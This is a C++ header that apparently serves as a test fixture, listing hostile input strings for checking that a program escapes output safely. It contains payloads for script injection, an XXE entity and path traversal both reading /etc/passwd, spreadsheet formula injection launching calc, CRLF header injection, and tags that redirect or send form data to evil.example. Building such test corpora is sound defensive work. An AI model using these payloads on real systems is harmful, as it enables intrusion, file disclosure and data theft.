#pragma once

#include <string>
#include <vector>

namespace cyto {

/// Texts that try to leave the place they are written to: markup, attributes, scripts, addresses, encodings.
inline std::vector<std::string> hostile_texts() {
  std::vector<std::string> texts{
      "<script>alert(1)</script>",
      "</title><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "\"><script>alert(1)</script>",
      "'><script>alert(1)</script>",
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "` onmouseover=`alert(1)",
      "<img src=x onerror=alert(1)>",
      "<svg/onload=alert(1)>",
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<iframe src=javascript:alert(1)>",
      "<a href=javascript:alert(1)>x</a>",
      "javascript:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "vbscript:msgbox(1)",
      "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
      "<details open ontoggle=alert(1)>",
      "<body onload=alert(1)>",
      "<base href=//evil.example/>",
      "<meta http-equiv=refresh content=0;url=//evil.example>",
      "<link rel=stylesheet href=//evil.example/x.css>",
      "<form action=//evil.example><input name=x>",
      "<object data=//evil.example>",
      "<embed src=//evil.example>",
      "<!-- comment -->",
      "<!--",
      "-->",
      "<![CDATA[x]]>",
      "]]>",
      "<?xml version=\"1.0\"?>",
      "<?php echo 1 ?>",
      "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
      "&lt;script&gt;",
      "&#60;script&#62;",
      "&amp;&amp;",
      "&unknown;",
      "&#0;",
      "</td></tr></table>",
      "</svg></figure>",
      "</desc><script>alert(1)</script>",
      "<style>*{background:url(//evil.example)}</style>",
      "expression(alert(1))",
      "{{7*7}}",
      "${7*7}",
      "=cmd|'/c calc'!A1",
      "../../../etc/passwd",
      "%3Cscript%3E",
      "\\u003cscript\\u003e",
      "\xC0\xBCscript\xC0\xBE",
      "\xFF\xFE<",
      "\u202Eevil",
      "line\r\nSet-Cookie: x=1",
      std::string("nul\0<b>", 7),
      std::string(5000, '<'),
      std::string(5000, '"'),
  };
  return texts;
}

}  // namespace cyto
